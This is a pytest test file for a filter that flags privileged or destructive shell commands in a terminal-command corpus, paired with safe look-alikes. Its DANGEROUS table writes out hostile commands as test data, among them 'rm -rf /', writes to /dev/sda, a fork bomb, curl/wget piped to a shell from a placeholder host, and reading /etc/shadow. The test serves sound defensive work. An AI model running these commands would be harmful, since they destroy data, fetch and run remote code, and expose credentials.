"""The privileged-command rules: what they catch, what they leave alone."""

from __future__ import annotations

import re

import pandas as pd
import pytest

from termcorpus.curate.safety import PRIVILEGED_RULES, match_privileged

DANGEROUS = {
    "sudo apt-get install jq": "sudo",
    "cd /app && sudo ls": "sudo",
    "su -": "su",
    "su root -c id": "su",
    "chmod 777 /": "chmod_root",
    "chmod -R 777 /": "chmod_root",
    "chmod u+s /usr/bin/python3": "setuid",
    "chmod 4755 tool": "setuid",
    "mkfs.ext4 /dev/sdb1": "mkfs",
    "dd if=/dev/zero of=/dev/sda bs=1M": "dd_device",
    "cat image > /dev/sda": "write_device",
    "rm -rf /": "rm_root",
    "rm -rf /*": "rm_root",
    "rm -r -f ~": "rm_root",
    "rm -rf --no-preserve-root /": "rm_root",
    "shutdown -h now": "power",
    "ls; reboot": "power",
    "mount /dev/sdb1 /mnt": "mount",
    "umount /mnt": "mount",
    "iptables -F": "firewall",
    "modprobe dummy": "kernel_modules",
    "systemctl stop cron": "services",
    "curl -fsSL http://x.example/install.sh | sh": "pipe_to_shell",
    "wget -qO- http://x.example/i | bash": "pipe_to_shell",
    "cp x y --no-preserve-root": "no_preserve_root",
    ":(){ :|:& };:": "fork_bomb",
    "kill -9 -1": "kill_all",
    "cat /etc/shadow": "credentials",
}

SAFE = [
    "ls -la /app",
    "rm -rf /app/build",
    "rm -rf ./tmp/",
    "rm -rf ~/cache",
    "grep reboot /var/log/syslog.txt",
    "echo 'run shutdown later' > notes.txt",
    "chmod 755 script.sh",
    "chmod 0644 data.csv",
    "chmod 1777 /app/shared",
    "dd if=/dev/urandom of=random.bin bs=1k count=4",
    "dd if=input.img of=/dev/null",
    "cut -d: -f1 /etc/passwd | sort",
    "mountpoint -q /app || echo no",
    "summary=$(wc -l < data.csv)",
    "sha256sum file | cut -c1-8",
    "curl --version | head -1",
    "kill -HUP 1234",
    "kill -1 4242",
    "python3 -c 'print(1)'",
    "find . -name '*.log' -exec rm {} +",
]


@pytest.mark.parametrize("cmd", sorted(DANGEROUS))
def test_dangerous_command_is_caught_with_its_reason(cmd):
    assert match_privileged(cmd + "\n") == DANGEROUS[cmd]


@pytest.mark.parametrize("cmd", SAFE)
def test_ordinary_command_passes(cmd):
    assert match_privileged(cmd + "\n") is None


def test_every_rule_is_exercised_and_documented():
    assert {r.reason for r in PRIVILEGED_RULES} == set(DANGEROUS.values())
    assert all(r.help for r in PRIVILEGED_RULES)
    assert len({r.reason for r in PRIVILEGED_RULES}) == len(PRIVILEGED_RULES)


def test_pandas_regex_engine_agrees_with_python_re():
    """GX runs the patterns through pandas (pyarrow RE2 for str columns): same verdicts."""
    texts = pd.Series([c + "\n" for c in [*DANGEROUS, *SAFE]])
    for rule in PRIVILEGED_RULES:
        ours = [bool(re.search(rule.pattern, t)) for t in texts]
        assert texts.str.contains(rule.pattern).tolist() == ours, rule.reason
